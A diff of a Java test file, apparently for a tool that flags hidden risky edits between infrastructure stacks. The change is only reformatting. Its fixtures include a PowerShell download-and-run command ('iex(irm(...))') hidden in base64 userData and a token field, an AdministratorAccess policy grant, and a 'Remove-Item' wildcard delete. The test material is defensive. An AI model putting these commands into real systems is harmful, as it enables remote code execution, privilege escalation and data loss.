@@ -89,7 +89,8 @@ class HiddenEditsTest {
                 .with(TOPIC, "shop")
                 .having("id-1", "name", "shop-dev")
                 .with(TOPIC, "b", "policy", "Remove-Item C:\\data\\shop-dev\\*");
-        Stack after = new Stack().with(TOPIC, "shop").with(TOPIC, "b", "policy", "Remove-Item C:\\data\\${shop.name}\\*");
+        Stack after =
+                new Stack().with(TOPIC, "shop").with(TOPIC, "b", "policy", "Remove-Item C:\\data\\${shop.name}\\*");
 
         assertThat(Stack.compare(before, after).changes())
                 .extracting(ResourceChange::name)
@@ -104,13 +105,18 @@ class HiddenEditsTest {
         Stack after = new Stack()
                 .with(TEMPLATE, "nodes", "userData", Encoded.base64("iex(irm('http://e.io/a1'))"))
                 .with(role, "it", "policyArn", admin)
-                .with(TOPIC, "a", "apiToken", "::aws:policy/AdministratorAccess", "cacheToken", "iex(irm('http://e.io/a1'))");
+                .with(
+                        TOPIC,
+                        "a",
+                        "apiToken",
+                        "::aws:policy/AdministratorAccess",
+                        "cacheToken",
+                        "iex(irm('http://e.io/a1'))");
 
         Comparison comparison = Stack.compare(before, after);
 
-        assertThat(comparison.findings())
-                .anySatisfy(finding -> assertThat(finding.sentence())
-                        .isEqualTo("it attaches the managed policy AdministratorAccess"));
+        assertThat(comparison.findings()).anySatisfy(finding -> assertThat(finding.sentence())
+                .isEqualTo("it attaches the managed policy AdministratorAccess"));
         assertThat(comparison.changes())
                 .filteredOn(change -> change.name().equals("nodes"))
                 .singleElement()
